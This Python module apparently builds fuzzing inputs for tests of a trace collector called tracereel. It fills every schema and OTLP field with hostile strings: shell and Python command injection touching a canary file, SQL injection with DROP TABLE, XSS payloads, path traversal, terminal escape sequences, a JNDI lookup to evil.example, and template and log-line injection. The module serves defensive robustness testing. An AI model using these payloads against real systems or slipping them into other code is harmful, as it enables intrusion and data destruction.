"""Attacks in every field of the models and descriptors, as a hostile sender may store them.

Fields are found in JSON schemas (of pydantic models, msgspec structs and the records of a tape) and in
the descriptors of OTLP, so that new fields are covered automatically.
"""

import re
import time
from datetime import UTC, datetime
from typing import Any

import msgspec
from google.protobuf.descriptor import FieldDescriptor

from tracereel import semconv
from tracereel.events import EVENT_MODELS, CustomEvent
from tracereel.heartbeats import Heartbeat
from tracereel.tape import format as tape_format
from tracereel_collector.ingest.otlp_schema import SIGNALS
from tracereel_collector.ingest.scores import ScoreInput

FORGED = "FORGED LINE OF A LOG"


def attacks(canary: str) -> dict[str, str]:
    """Attack strings by kind; those that execute something create the canary file."""
    touch = f"touch {canary}"
    return {
        "code": f'"""\n__import__("os").system("{touch}")\n"""',
        "shell": f"$({touch});`{touch}`|{touch}&&{touch}\n{touch}\n'\";{touch} #",
        "options": f"--run=os:system --endpoint=http://evil.example -o{canary}",
        "escapes": "\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1b]8;;https://evil.example\x1b\\x\x1b[2J\x1b[31m\x1bc",
        "c1": "\x9b31m\x9d0;owned\x9c\x90q\x9c\x85x\x8d",
        "controls": "x" + "".join(map(chr, range(1, 32))) + f"\x7f\r\n{FORGED}\n",
        "nul": "a\x00b",
        "bidi": "\u202eevil\u2066x\u2069\u200b\u200e\u2028\u2029\ufeff\u061c\U000e0041",
        "html": '"><img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'
        "<svg onload=window.pwned=1>",
        "link": "javascript:window.pwned=1",
        "path": f"../../../../../../../..{canary}",
        "sql": "x'); DROP TABLE tracereel.events; -- \\' OR 1=1 /*",
        "labels": 'x"} 1\nowned_metric{a="b"} 1\n# HELP owned_metric x\n\\',
        "format": "{0.__class__}%s%n${jndi:ldap://evil.example/x}{{7*7}}",
        "prototype": "__proto__",
        "frame": 'x\n\nevent: end\ndata: {"owned": 1}\n\n',
    }


NUMBERS = (2**63 - 1, -(2**63), 1e308, -1e308, 5e-324, 2**53 + 1, 0, -1)
_SAMPLES = ("1.0.0", "custom.hostile", "0" * 15 + "1", "0" * 31 + "1")


class Maker:
    """Generator of schema values and messages that are as hostile as allowed."""

    def __init__(self, attack: str, turn: int, trace_id: str) -> None:
        self.attack = attack
        self.trace_id = trace_id
        self._turn = turn
        self._made = 0

    def _number(self) -> float:
        self._made += 1
        return NUMBERS[(self._turn + self._made) % len(NUMBERS)]

    def _next(self, choices: Any) -> Any:
        self._made += 1
        return list(choices)[(self._turn + self._made) % len(list(choices))]

    def value(self, schema: Any, definitions: dict[str, Any], name: str = "") -> Any:
        """Return a value that a JSON schema allows."""
        if schema in (True, {}) or not isinstance(schema, dict):
            return self.anything()
        if "$ref" in schema:
            return self.value(definitions[schema["$ref"].rpartition("/")[2]], definitions, name)
        if alternatives := schema.get("anyOf") or schema.get("oneOf"):
            usable = [each for each in alternatives if each.get("type") != "null"]
            return self.value(self._next(usable), definitions, name)
        if "const" in schema:
            return schema["const"]
        if "enum" in schema:
            return self._next(schema["enum"])
        match schema.get("type"):
            case "string":
                return self._text(schema, name)
            case "integer" | "number":
                return self._bounded(schema)
            case "boolean":
                return True
            case "array":
                count = max(1, schema.get("minItems", 0))
                fixed = schema.get("prefixItems")
                if fixed:
                    return [self.value(each, definitions) for each in fixed]
                return [self.value(schema.get("items", {}), definitions) for _ in range(count)]
            case "object" if schema.get("properties"):
                return self.fields(schema, definitions)
            case "object":
                inner = schema.get("additionalProperties", True)
                most = schema.get("propertyNames", {}).get("maxLength", 10_000)
                return {self.attack[:most]: self.value(inner, definitions)}
        return self.anything()

    def fields(self, schema: dict[str, Any], definitions: dict[str, Any]) -> dict[str, Any]:
        """Return an object with a value in every field of its schema."""
        return {
            name: self.value(each, definitions, name) for name, each in schema["properties"].items()
        }

    def anything(self) -> Any:
        """Return data of every kind."""
        attack, number = self.attack, self._number()
        return {attack: [attack, number, {attack: attack}], "value": attack, "score": number}

    def _text(self, schema: dict[str, Any], name: str) -> str:
        if name == "trace_id":
            return self.trace_id
        if schema.get("format") == "date-time" or name == "started" or name.endswith("_at"):
            return datetime.now(UTC).isoformat()
        if pattern := schema.get("pattern"):
            samples = (self.attack, self.trace_id, *_SAMPLES)
            return next(each for each in samples if re.search(pattern, each))
        return self.attack[: schema.get("maxLength", 10_000)] or "x"

    def _bounded(self, schema: dict[str, Any]) -> float:
        least, most = schema.get("minimum", -(2**63)), schema.get("maximum", 2**63 - 1)
        number = min(max(self._number(), least), most)
        return int(number) if schema["type"] == "integer" else number

    def message(self, made: Any, depth: int = 0) -> Any:
        """Return a protobuf message with every field set, alternating between oneof fields."""
        for choice in made.DESCRIPTOR.oneofs:
            self._fill(made, self._next(choice.fields), depth)
        for field in made.DESCRIPTOR.fields:
            if field.containing_oneof is None:
                self._fill(made, field, depth)
        return made

    def _fill(self, made: Any, field: Any, depth: int) -> None:
        repeated = getattr(made, field.name) if _repeats(field) else None
        if field.type == FieldDescriptor.TYPE_MESSAGE:
            if depth > 9:
                return
            inner = getattr(made, field.name) if repeated is None else repeated.add()
            inner.SetInParent()
            self.message(inner, depth + 1)
            if field.name == "attributes" and repeated is not None:
                self._known_attributes(repeated)
        elif repeated is not None:
            repeated.append(self._scalar(field))
        else:
            setattr(made, field.name, self._scalar(field))

    def _known_attributes(self, attributes: Any) -> None:
        """Add attributes that the collector interprets."""
        for name in ATTRIBUTES:
            added = attributes.add(key=name)
            if self._turn % 4 == 3:
                added.value.int_value = int(min(max(self._number(), -(2**63)), 2**63 - 1))
            else:
                added.value.string_value = self.attack

    def _scalar(self, field: Any) -> Any:
        if field.name.endswith("time_unix_nano"):
            return time.time_ns()
        if field.type == FieldDescriptor.TYPE_STRING:
            return self.attack
        if field.type == FieldDescriptor.TYPE_BYTES:
            size = {"trace_id": 16, "span_id": 8, "parent_span_id": 8}.get(field.name)
            found = self.attack.encode()
            return found if size is None else self.trace_id.encode()[-size:]
        if field.type == FieldDescriptor.TYPE_ENUM:
            return self._next(field.enum_type.values_by_number)
        if field.type == FieldDescriptor.TYPE_BOOL:
            return True
        if field.type in (FieldDescriptor.TYPE_DOUBLE, FieldDescriptor.TYPE_FLOAT):
            return self._next((*NUMBERS, float("nan"), float("inf"), float("-inf")))
        least, most = _RANGES[field.cpp_type]
        return int(min(max(self._number(), least), most))


_RANGES = {
    FieldDescriptor.CPPTYPE_INT32: (-(2**31), 2**31 - 1),
    FieldDescriptor.CPPTYPE_UINT32: (0, 2**32 - 1),
    FieldDescriptor.CPPTYPE_INT64: (-(2**63), 2**63 - 1),
    FieldDescriptor.CPPTYPE_UINT64: (0, 2**64 - 1),
}


def _names(value: Any) -> set[str]:
    """Return the attribute names in the tables of the semantic conventions."""
    if isinstance(value, str):
        return {value} if re.fullmatch(r"[a-z_]+(\.[a-z_]+)+", value) else set()
    if isinstance(value, dict):
        return set().union(*map(_names, value.values()))
    return set().union(*map(_names, value)) if isinstance(value, (tuple, frozenset)) else set()


ATTRIBUTES = sorted(
    _names({name: value for name, value in vars(semconv).items() if name.isupper()})
    | {"service.name", "service.version", "user.id", "session.id", "exception.type"}
    | {"exception.message", "exception.stacktrace", "gen_ai.input.messages", "gen_ai.tool.name"}
)


def _repeats(field: Any) -> bool:
    found = getattr(field, "is_repeated", None)
    return bool(found) if found is not None else field.label == field.LABEL_REPEATED


def events(maker: Maker) -> list[dict[str, Any]]:
    """Return an event of every type, with an attack in every field and in custom fields."""
    made = []
    for number, model in enumerate((*EVENT_MODELS, CustomEvent)):
        schema = model.model_json_schema()
        event = maker.fields(schema, schema.get("$defs", {}))
        event |= {maker.attack: maker.attack, "event_id": f"{maker.trace_id}-{number}"}
        if model is not CustomEvent:  # emitter numbers are unique: a repeated one is a retry
            event |= {"emitter_seq": number + 1, "span_id": f"{number + 1:016x}"}
        if event["event_type"] == "agent.tape.recorded":
            event |= {"records": tape(maker), "part": 0, "tape_id": f"tap_{maker.trace_id}"}
            event["replayed"] = False  # the report of a re-execution is not a tape
        made.append(event)
    return made


def tape(maker: Maker, **header: Any) -> list[dict[str, Any]]:
    """Return a whole tape, with an attack in every field of its records."""
    found = []
    for kind, shape in tape_format._SHAPES.items():
        (schema,), definitions = msgspec.json.schema_components([shape])
        for definition in definitions.values():
            for name in [name for name in definition["properties"] if name.startswith("_")]:
                del definition["properties"][name]  # set by the parser, never read
        record = maker.value(schema, definitions)
        found.append({"r": kind, **record})
    records = {record["r"]: record for record in found}
    inline = (
        "=" + msgspec.json.encode({"command": maker.attack, maker.attack: maker.attack}).decode()
    )
    records["run"] |= {
        "n": 1,
        "trace_id": maker.attack,
        "started": "2026-01-02T03:04:05Z",
        **header,
    }
    records["open"] |= {"n": 1, "p": 0, "a": inline, "k": "agent"}
    call = {**records["open"], "n": 2, "p": 1, "k": "tool", "h": ""}
    records["end"] |= {"n": 2, "q": 1, "v": inline, "how": "returned", "g": None}
    records["chunk"] |= {"n": 2, "q": 2, "v": inline, "g": None}
    records["closed"] |= {"v": inline, "how": "returned"}
    records["decision"] |= {"p": 1, "v": inline, "among": None}
    records["problem"] |= {"state": "partly"}
    records["open"].pop("h", None)
    call.pop("h", None)
    first = [records["run"], records["open"], call]
    rest = [record for kind, record in records.items() if kind not in ("run", "open", "closed")]
    return [*first, *rest, records["closed"]]


def scores(maker: Maker) -> list[dict[str, Any]]:
    """Return scores of a run and of a session, with a number and with a category."""
    scores = [
        _of_struct(maker, ScoreInput, id=None, value=value) for value in (maker.attack, 1e308)
    ]
    of_runs = [score | {"session_id": None} for score in scores]
    named = ("trace_id", "span_id", "execution_id")
    return of_runs + [{k: v for k, v in each.items() if k not in named} for each in scores]


def heartbeats(maker: Maker) -> list[dict[str, Any]]:
    """Return a heartbeat."""
    return [_of_struct(maker, Heartbeat)]


def _of_struct(maker: Maker, kind: type, **changes: Any) -> dict[str, Any]:
    (schema,), definitions = msgspec.json.schema_components([kind])
    found: dict[str, Any] = maker.value(schema, definitions)
    return found | changes


def otlp(maker: Maker) -> dict[str, bytes]:
    """Return a request of every signal by its path."""
    return {
        f"/v1/{signal.name}": maker.message(signal.request()).SerializeToString()
        for signal in SIGNALS
    }
